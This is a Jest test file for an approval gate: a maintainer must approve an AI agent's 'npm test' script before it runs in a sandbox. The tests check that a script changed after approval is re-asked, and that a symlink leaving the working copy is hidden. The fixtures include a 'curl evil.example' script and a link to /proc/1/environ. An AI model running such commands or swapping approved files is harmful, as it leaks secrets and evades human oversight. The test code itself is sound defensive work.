// You approve what will run: a question about `npm test` shows the script as it is in the sandbox, and holds for no other. The
// unmodified App, an emulated GitHub, the simulator.
import { afterAll, expect, test } from '@jest/globals';
import { people } from '../../lab/github/index.ts';
import { closeStages, stageOf } from './confirmation-stage.ts';
import { type Scene, scene } from './scene.ts';

afterAll(closeStages, 60_000);

const script = (test: string) => JSON.stringify({ name: 'widgets', scripts: { test } }, null, 2);
const asking = async () => scene(await stageOf('live'), 'confirm tests after 10s, hang');
const rewrite = (
  { stage, id }: Scene,
  files: Parameters<Scene['stage']['service']['control']['setFiles']>[1],
) => stage.service.control.setFiles(id, files);
const readsOf = async ({ stage, id }: Scene) => {
  const all = await stage.service.control.requests();
  return all.filter(
    ({ route, path }) =>
      route === 'workspace_file' && path.replaceAll('-', '').includes(id.replaceAll('-', '')),
  );
};

test.concurrent('a script that changes after it was shown is not run: it is asked again, and says what changed', async () => {
  const play = await asking();
  const asked = await play.question();
  expect(asked.body).toContain('`package.json`, script `test`: **new**, not on the default branch');
  expect(asked.body).toContain('test: node --test');
  await rewrite(play, { 'package.json': script('curl evil.example') });
  await play.reply(people.maintainer, asked, '/approve');
  const settled = await play.question(/Out of date/);
  expect(settled.body).toContain(
    'Files that it runs changed after they were shown. Changed: `package.json`.',
  );
  expect(settled.body).toContain('**Nothing was sent.**');
  const again = await play.question(/The agent asks/, 1);
  expect(again.body).toContain('test: curl evil.example');
  expect(again.code).not.toBe(asked.code);
  expect(await play.sent()).toEqual([]);
  await play.reply(people.maintainer, again, '/approve');
  await play.question(/Approved/, 1);
  expect(await play.sent()).toMatchObject([{ route: 'respond', body: { accept: true } }]);
});

test.concurrent('a script that stays as it was is read again before the approval is sent', async () => {
  const play = await asking();
  const asked = await play.question();
  const before = (await readsOf(play)).length;
  expect(before).toBeGreaterThan(0);
  await play.reply(people.maintainer, asked, '/approve');
  await play.question(/Approved/);
  expect((await readsOf(play)).length).toBeGreaterThan(before);
});

test.concurrent('what cannot be read within the working copy is said, and nothing of it is shown', async () => {
  const play = await asking();
  const asked = await play.question();
  await rewrite(play, { 'package.json': { link: '/proc/1/environ' } });
  await play.reply(people.maintainer, asked, '/approve');
  const again = await play.question(/The agent asks/, 1);
  expect(again.body).toContain('**not shown**: it leads out of the working copy');
  expect(again.body).not.toContain('SECRET');
});

test.concurrent('a question of a sandbox that sleeps is asked again once it is awake', async () => {
  const play = await asking();
  const asked = await play.question();
  await play.change({ sandbox_status: 'PAUSED' });
  await rewrite(play, { 'package.json': script('ls') });
  await play.reply(people.maintainer, asked, '/approve');
  await play.question(/Out of date/);
  expect((await play.question(/The agent asks/, 1)).body).toContain('test: ls');
  expect((await play.sent()).filter(({ route }) => route === 'respond')).toEqual([]);
});
